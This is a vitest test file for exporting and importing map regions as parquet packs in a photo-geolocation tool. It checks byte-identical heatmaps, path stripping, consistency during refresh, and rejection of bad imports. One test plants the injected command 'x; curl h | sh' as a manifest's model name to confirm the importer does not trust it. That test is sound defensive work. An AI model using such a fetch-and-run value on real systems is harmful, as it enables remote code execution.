/** A region is built in one place and searched in another: the file between them loses nothing. */
import { AsyncLocalStorage } from 'node:async_hooks'
import { mkdtemp, readdir, readFile, rename, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { createPack } from '../../src/gallery/pack-file.ts'
import { beginRefresh, markRefreshing } from '../../src/gallery/refresh.ts'
import {
  deleteRegion,
  findRegion,
  insertRegionWithPoints,
  listRegions,
} from '../../src/gallery/regions.ts'
import type { HeatmapFormat } from '../../src/heatmap/formats.ts'
import { buildRegion } from '../../src/journeys/build-region.ts'
import { createRegion } from '../../src/journeys/create-region.ts'
import { locatePhoto } from '../../src/journeys/locate-photo.ts'
import { makeSheet } from '../../src/journeys/make-sheet.ts'
import { exportRegion, importRegion } from '../../src/journeys/pack-region.ts'
import { renderHeatmap } from '../../src/journeys/render-heatmap.ts'
import type { Sampling } from '../../src/types.ts'
import { describeOnEachDatabase, type PlaceTestDatabase } from '../databases.ts'
import { makeManifest } from '../gallery/packs.ts'
import { makeTown, type Town } from '../http/town.ts'
import { openTestWorld, type TestWorld } from '../world.ts'
import { draftRegion, findAttributions } from '../gallery/rows.ts'

const { signal } = new AbortController()
const quiet = { signal, onProgress: () => undefined }

async function openWorldAt(place: PlaceTestDatabase): Promise<TestWorld> {
  return openTestWorld({ models: 'tiny', place: await place() })
}

describeOnEachDatabase('a pack', (_open, place) => {
  let folder: string
  let town: Town
  let from: TestWorld
  let to: TestWorld
  let pack: string

  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'whereabouts-pack-'))
    pack = join(folder, 'town.parquet')
    town = await makeTown(folder)
    from = await openWorldAt(place)
    to = await openWorldAt(place)
    await createRegion(
      from,
      {
        name: 'town',
        imagery: { kind: 'geotiff', files: [town.ortho], attribution: 'synthetic' },
        sampling: { kind: 'grid', stepM: 40, whereImagery: false },
        boundary: null,
      },
      { signal, onWarning: () => undefined },
    )
    await buildRegion(from, 'town', quiet)
  })
  afterAll(async () => {
    await from.close()
    await to.close()
    await rm(folder, { recursive: true, force: true })
  })

  const locate = (world: TestWorld, region: string) =>
    locatePhoto(world, {
      photos: [{ name: 'water.jpg', bytes: town.waterPhoto }],
      region,
      cells: 'square:50m',
      candidateCount: 20,
    })

  test('carries a region into another database, where its heatmaps are the same bytes', async () => {
    const steps: string[] = []
    const onProgress = (step: string, done: number, total: number) =>
      steps.push(`${step} ${Math.round((100 * done) / total)}`)
    const written = await exportRegion(
      from,
      { name: 'town', path: pack, program: '1.2.3' },
      { signal, onProgress },
    )
    expect(written.bytes).toBe((await readFile(pack)).length)
    const read = await importRegion(to, { path: pack }, { signal, onProgress })
    expect(read).toMatchObject({ name: 'town', isBuilt: true })
    expect(read.manifest).toEqual(written.manifest)
    expect(read.manifest.program).toBe('1.2.3')
    expect(new Set(steps)).toEqual(new Set(['rows 100', 'check 100']))
    const [ours, theirs] = [await locate(from, 'town'), await locate(to, 'town')]
    expect(theirs.candidates).toEqual(ours.candidates)
    expect(theirs.heatmap.unavailableCount).toBeGreaterThan(0)
    for (const format of ['geojson', 'csv', 'kml', 'geotiff', 'png'] as HeatmapFormat[]) {
      const [a, b] = [
        await renderHeatmap(from, ours.heatmap, format),
        await renderHeatmap(to, theirs.heatmap, format),
      ]
      expect(Buffer.compare(a.bytes, b.bytes), format).toBe(0)
    }
    const { id } = await findRegion(to.db, 'town')
    expect({ ...(await findRegion(from.db, 'town')), id }).toEqual(await findRegion(to.db, 'town'))
  })

  const extractSha256 = 'e'.repeat(64)
  const drawn: { file: string; sampling: Sampling; packed: object }[] = [
    {
      file: 'an extract',
      sampling: {
        kind: 'roads',
        extract: '/home/ana/t.osm.pbf',
        extractSha256,
        points: 9,
        seed: 1,
      },
      packed: { kind: 'roads', extract: 't.osm.pbf', extractSha256, points: 9, seed: 1 },
    },
    {
      file: 'a list of places',
      sampling: { kind: 'patches', file: 'C:\\Users\\ana\\places.csv' },
      packed: { kind: 'patches', file: 'places.csv' },
    },
  ]
  for (const { file, sampling, packed } of drawn) {
    test(`names ${file} without the folders of the machine that read it`, async () => {
      const region = { ...draftRegion('drawn'), sampling }
      await insertRegionWithPoints(from.db, region, [])
      try {
        const path = join(folder, 'drawn.parquet')
        const { manifest } = await exportRegion(from, { name: 'drawn', path, program: '1' }, quiet)
        expect(manifest.region.sampling).toEqual(packed)
      } finally {
        await deleteRegion(from.db, 'drawn')
      }
    })
  }

  test('shows one moment of a region that takes other sources while it is written', async () => {
    const imagery = (attribution: string) => ({ kind: 'geotiff', files: [town.ortho], attribution })
    await importRegion(from, { path: pack, name: 'moving' }, quiet)
    const { id } = await findRegion(from.db, 'moving')
    const refresh = async (attribution: string, vintages: number) => {
      await beginRefresh(from.db, id, { imagery: imagery(attribution), attribution, vintages })
      await markRefreshing(from.db, id, [0])
    }
    // One before the rows are read, and one while they are written, or as soon as the embedded
    // database is free.
    let refreshed: Promise<void> | undefined
    const besides = AsyncLocalStorage.snapshot()
    const createMoving: TestWorld['createPack'] = async (path) => {
      await refresh('© Second', 2)
      const writer = await from.createPack(path)
      const write: typeof writer.write = async (rows) => {
        refreshed ??= besides(() => refresh('© Third', 3))
        if (from.db.kind === 'postgres') await refreshed
        await writer.write(rows)
      }
      return {
        write,
        finish: (manifest, bbox) => writer.finish(manifest, bbox),
        discard: () => writer.discard(),
      }
    }
    const path = join(folder, 'moving.parquet')
    const request = { name: 'moving', path, program: '' }
    const outside = { ...from, createPack: createMoving }
    const { region, terms } = (await exportRegion(outside, request, quiet)).manifest
    expect(region).toMatchObject({
      imagery: imagery('© Second'),
      attribution: '© Second; synthetic',
      attributions: ['synthetic', '© Second'],
      vintages: 2,
    })
    expect(terms).toContain('imagery: © Second; synthetic')
    await refreshed
    expect(await findAttributions(from.db, id)).toEqual(['synthetic', '© Second', '© Third'])
  })

  test('of a region that is not there is none', async () => {
    const path = join(folder, 'nowhere.parquet')
    const request = { name: 'nowhere', path, program: '' }
    await expect(exportRegion(from, request, quiet)).rejects.toMatchObject({
      code: 'region-not-found',
    })
    expect((await readdir(folder)).filter((name) => name.startsWith('nowhere'))).toEqual([])
  })

  test('whose files are not here still gives a sheet, without their pictures', async () => {
    const located = await locate(to, 'town')
    await rename(town.ortho, `${town.ortho}.away`)
    try {
      const sheet = await makeSheet(to, located, null)
      expect(sheet).toContain('not available now')
      expect(sheet).toContain('water.jpg')
    } finally {
      await rename(`${town.ortho}.away`, town.ortho)
    }
  })

  test('is imported once per name', async () => {
    await expect(importRegion(to, { path: pack }, quiet)).rejects.toMatchObject({
      code: 'region-exists',
      hint: expect.stringContaining('--name') as unknown,
    })
    expect(await importRegion(to, { path: pack, name: 'second' }, quiet)).toMatchObject({
      name: 'second',
    })
    const bad = importRegion(to, { path: pack, name: 'No Name' }, quiet)
    await expect(bad).rejects.toMatchObject({ code: 'region-name' })
    expect((await listRegions(to.db)).map(({ name }) => name)).toEqual(['second', 'town'])
  })

  test('with vectors of another model is refused, and the model is named', async () => {
    const foreign = join(folder, 'foreign.parquet')
    const writer = await createPack(foreign)
    const manifest = makeManifest()
    await writer.finish(manifest, null)
    await expect(importRegion(to, { path: foreign }, quiet)).rejects.toMatchObject({
      code: 'model-mismatch',
      hint: expect.stringContaining(`--overhead-model ${manifest.region.model.name}`) as unknown,
    })
  })

  test('is told and kept as what it brings, not as what it says of itself', async () => {
    const lying = join(folder, 'lying.parquet')
    const reader = await from.openPack(pack, { signal })
    const writer = await createPack(lying)
    let [points, embeddings] = [0, 0]
    for await (const rows of reader.rows()) {
      await writer.write(rows)
      points += rows.length
      embeddings += rows.filter(({ embedding }) => embedding !== null).length
    }
    const { region, ...manifest } = reader.manifest
    const model = { ...region.model, name: 'x; curl h | sh' }
    await writer.finish({ ...manifest, pointCount: 9, region: { ...region, model } }, null)
    await reader.close()
    const read = await importRegion(to, { path: lying, name: 'honest' }, quiet)
    expect(read).toMatchObject({ pointCount: points, embeddingCount: embeddings })
    expect(embeddings).toBeGreaterThan(0)
    const { card } = await to.encoder('overhead')
    expect((await findRegion(to.db, 'honest')).model.name).toBe(card.name)
  })

  test('whose import is stopped leaves no region, whose export is stopped no file', async () => {
    const controller = new AbortController()
    const stop = { signal: controller.signal, onProgress: () => controller.abort() }
    await expect(importRegion(to, { path: pack, name: 'half' }, stop)).rejects.toThrow(/abort/i)
    expect((await listRegions(to.db)).map(({ name }) => name)).not.toContain('half')
    const path = join(folder, 'stopped.parquet')
    const request = { name: 'town', path, program: '' }
    await expect(exportRegion(from, request, stop)).rejects.toThrow(/abort/i)
    expect((await readdir(folder)).filter((name) => name.startsWith('stopped'))).toEqual([])
  })
})
